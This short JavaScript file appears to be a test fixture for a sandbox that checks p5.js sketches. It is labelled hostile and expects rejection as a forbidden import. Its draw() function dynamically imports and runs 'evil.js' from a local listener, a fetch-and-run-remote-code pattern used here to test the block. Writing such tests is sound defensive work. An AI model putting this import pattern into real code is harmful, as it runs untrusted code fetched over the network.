// hostile: dynamic import() of a module from the loopback listener
// expect: limit=none reason=forbidden import
function setup() { createCanvas(600, 600, WEBGL); angleMode(DEGREES); }
function draw() { import("http://127.0.0.1:__PORT__/evil.js").then((m) => m.run()); }
